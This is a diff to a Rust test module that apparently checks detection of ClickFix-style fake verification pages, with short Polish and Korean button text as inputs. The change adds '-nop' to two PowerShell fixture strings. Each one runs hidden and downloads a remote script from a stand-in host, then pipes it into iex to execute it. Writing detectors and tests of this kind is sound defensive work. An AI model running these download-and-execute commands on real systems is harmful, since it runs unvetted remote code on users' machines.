@@ -2718,7 +2718,7 @@ mod tests {
         };
         // A page of a few words that is only a check's status, steps in a picture, a hidden
         // download run from another site over https: ClickFix in any script.
-        let hidden = "powershell -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
+        let hidden = "powershell -nop -w hidden -c \"iwr https://relay.test/s -useb | iex\"";
         for parts in [
             ["Weryfikacja przeglądarki", "Dalej"],
             ["확인 중입니다", "다음"],
@@ -2751,7 +2751,7 @@ mod tests {
             (
                 "https://agent.firm.example/",
                 ["확인 중입니다", ""],
-                "powershell -w hidden -c \"iwr https://agent.firm.example/a.ps1 -useb | iex\"",
+                "powershell -nop -w hidden -c \"iwr https://agent.firm.example/a.ps1 -useb | iex\"",
             ),
             (
                 "https://get.drift.example/",
